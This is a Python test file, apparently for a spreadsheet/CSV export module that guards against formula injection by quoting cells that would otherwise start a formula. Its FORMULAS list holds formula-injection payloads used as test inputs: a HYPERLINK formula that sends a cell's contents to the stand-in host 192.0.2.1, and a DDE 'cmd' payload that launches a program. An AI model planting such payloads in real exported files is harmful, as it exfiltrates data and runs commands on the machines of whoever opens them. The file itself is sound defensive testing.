import csv
import io

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lit_plugins.data.spreadsheet import as_csv, inert, inert_inside, unmarked_inside

FORMULAS = [
    '=HYPERLINK("http://192.0.2.1/?"&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t1+1",
    "\r1+1",
    "\n1+1",
    "\uff1d1+1",
    "-",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_be_a_formula_is_a_text(text):
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize(
    "number", ["-0.5", "+3", "-1e-05", "-.5", "-2.", -0.5, np.float32(-0.5), 0, None, True]
)
def test_numbers_stay_numbers(number):
    assert inert(number) is number


@pytest.mark.parametrize("text", ["", "a = b", " =1", "'=1", "1-2", "a; b", "a\tb\r\nc", ";"])
def test_other_texts_stay(text):
    assert inert(text) == text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("a;=1+1", "a;'=1+1"),
        ("=a;=b;-c", "'=a;'=b;'-c"),
        ('a;"=1+1', "a;'\"=1+1"),
        ("a\t@b\r+c\n-d", "a\t'@b\r'+c\n'-d"),
        (";\t=1", ";\t'=1"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("\n=1", "'\n'=1"),
        ("a;'=1", "a;''=1"),
        ("a;-0.5", "a;'-0.5"),
        (("a", "x;=1"), "('a', 'x;'=1')"),
    ],
)
def test_what_would_be_a_formula_behind_a_separator_is_a_text(text, written):
    assert inert(text) == written


PARTS = st.sampled_from([*"=+-@\uff1d;\t\r\n\"',a ", "\r\n", "-1"])
MIXED = st.lists(PARTS, max_size=10).map("".join)


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(MIXED)
def test_what_is_made_inert_can_be_read_again(text):
    assert unmarked_inside(inert_inside(text)) == text


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(st.lists(MIXED, min_size=1, max_size=3), st.sampled_from(",;\t"))
def test_no_separator_makes_a_formula_of_a_part(texts, separator):
    rows = [{"index": at, "text": text, "score": -0.5} for at, text in enumerate(texts)]
    written = as_csv(["index", "text", "score"], rows).decode()
    for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator):
        for cell in row:
            assert not cell.lstrip("\t\r\n").startswith(tuple("=+@\uff1d"))
            assert not cell.startswith("-") or float(cell)


def test_names_and_cells_of_csv_are_inert():
    names = ["=evil()", "n", "none", "text"]
    rows = [{"=evil()": text, "n": -0.5, "none": None} for text in FORMULAS]
    header, *lines = csv.reader(io.StringIO(as_csv(names, rows).decode(), newline=""))
    assert header == ["'=evil()", "n", "none", "text"]
    assert lines == [[f"'{text}", "-0.5", "", ""] for text in FORMULAS]


@pytest.mark.parametrize("end", ["\r", "\n", "\r\n"])
def test_no_text_begins_a_row(end):
    text = f'a "b",{end}=evil()'
    written = as_csv(["text"], [{"text": text}], header=False).decode()
    assert list(csv.reader(io.StringIO(written, newline=""))) == [[f'a "b",{end}\'=evil()']]


def test_rows_may_go_below_others():
    assert as_csv(["a"], [{"a": "ä,"}], header=False) == '"ä,"\n'.encode()
